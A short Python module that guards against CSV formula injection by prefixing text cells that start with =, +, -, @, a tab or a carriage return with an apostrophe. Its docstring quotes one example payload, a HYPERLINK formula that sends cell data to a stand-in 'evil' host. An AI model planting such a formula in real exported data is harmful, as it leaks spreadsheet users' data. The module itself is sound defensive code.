"""CSV cells that spreadsheets cannot execute (OWASP "CSV injection").

Excel, LibreOffice and Google Sheets treat a cell starting with ``=``, ``+``, ``-`` or ``@`` (or a
tab or carriage return before one) as a formula: ``=HYPERLINK("https://evil/?"&A1)`` in an item
title or a customer id would run in the marketer's spreadsheet. Every CSV the project writes passes
its text cells through ``csv_cell``, which prefixes such a cell with ``'`` so it is shown as text.
Numbers (int, float, Decimal) are written as they are: a negative score stays a number.
"""
from __future__ import annotations

from collections.abc import Iterable, Mapping
from decimal import Decimal
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


def csv_dict(row: Mapping[str, Any]) -> dict[str, Any]:
    return {key: csv_cell(value) for key, value in row.items()}
